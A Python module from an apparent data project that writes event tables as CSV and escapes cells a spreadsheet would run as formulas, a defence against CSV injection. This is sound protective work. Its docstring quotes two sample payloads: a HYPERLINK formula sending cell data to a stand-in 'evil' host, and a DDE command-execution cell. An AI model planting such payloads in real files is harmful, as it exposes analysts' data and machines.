"""The text form of an events table in CSV, safe to open in a spreadsheet.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab
or a carriage return) as a formula: a title ``=HYPERLINK("http://evil/?"&A1, "click")`` or
``+cmd|' /C calc'!A0`` taken from an article would run on the analyst's machine (CSV
injection). Article text is data, never code, so by default (``csv_formulas="escape"``) every
*text* cell that starts so gets a leading apostrophe, as OWASP recommends: a spreadsheet shows
the text as written (with the apostrophe). Numbers are never touched: a negative longitude
stays a number.

The escape is undone by Explorer's reader (:meth:`EventTable.read`), so a table written and read
back is equal: a cell that already starts with apostrophes before such a character gets one
more apostrophe (``'=x`` -> ``''=x``), and the reader takes exactly one away from a text cell of
apostrophes followed by a trigger character. ``csv_formulas="keep"`` writes the text as it is
(for tools that read CSV as data, never as formulas); read such a file with
``EventTable.read(path, csv_formulas="keep")`` to get it back exactly.

Lines end with CRLF (RFC 4180): Python's CSV writer quotes a cell holding a carriage return
only when the line ending has one, and an unquoted one splits the row for every reader.
"""

from __future__ import annotations

from typing import Any, Literal

import pandas as pd

from explorer.errors import TableError
from explorer.events.schema import COLUMNS

__all__ = [
    "CSV_FORMULAS",
    "CsvFormulas",
    "check_csv_formulas",
    "csv_frame",
    "escape_formulas",
    "to_csv",
    "unescape_formulas",
]

CsvFormulas = Literal["escape", "keep"]
CSV_FORMULAS: tuple[CsvFormulas, ...] = ("escape", "keep")
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_FORMULA = r"'*[=+\-@\t\r]"
TEXT_COLUMNS = tuple(name for name, kind in COLUMNS.items() if kind in ("str", "list"))
_LIST_SEP = ";"


def check_csv_formulas(value: str) -> CsvFormulas:
    if value not in CSV_FORMULAS:
        raise TableError(f"csv_formulas must be one of {', '.join(CSV_FORMULAS)}, not {value!r}")
    return value


def _starts_with_trigger(text: pd.Series, prefix: str = "") -> pd.Series:
    """Cells that are ``prefix``, apostrophes (maybe none), then a trigger character."""
    return text.str.match(prefix + _FORMULA, na=False).astype(bool)


def escape_formulas(cells: pd.Series) -> pd.Series:
    """``cells`` (text, maybe missing) with an apostrophe before each that a spreadsheet
    would run as a formula, or that is apostrophes before such a start."""
    text = cells.astype("str")
    mask = _starts_with_trigger(text)
    if not mask.any():
        return cells
    out = cells.astype(object).copy()
    out[mask] = "'" + text[mask]
    return out


def unescape_formulas(cells: pd.Series) -> pd.Series:
    """The inverse of :func:`escape_formulas` on text read back."""
    text = cells.astype("str")
    mask = _starts_with_trigger(text, "'")
    if not mask.any():
        return cells
    out = cells.astype(object).copy()
    out[mask] = text[mask].str[1:]
    return out


def csv_frame(df: pd.DataFrame, csv_formulas: CsvFormulas = "escape") -> pd.DataFrame:
    """The table as CSV text: categories joined with ``;``, dates as YYYY-MM-DD, text cells
    escaped against formulas unless ``csv_formulas="keep"``."""
    check_csv_formulas(csv_formulas)
    out = df.copy()
    out["categories"] = out["categories"].map(_LIST_SEP.join)
    for name, kind in COLUMNS.items():
        if kind == "date":
            out[name] = out[name].dt.strftime("%Y-%m-%d")
    if csv_formulas == "escape":
        for name in TEXT_COLUMNS:
            if name in out.columns:
                out[name] = escape_formulas(out[name])
    return out


def to_csv(frame: pd.DataFrame, target: Any, *, header: bool = True) -> None:
    """Write :func:`csv_frame`'s result (a path, or a text file opened with ``newline=""``)."""
    frame.to_csv(target, index=False, header=header, encoding="utf-8", lineterminator="\r\n")
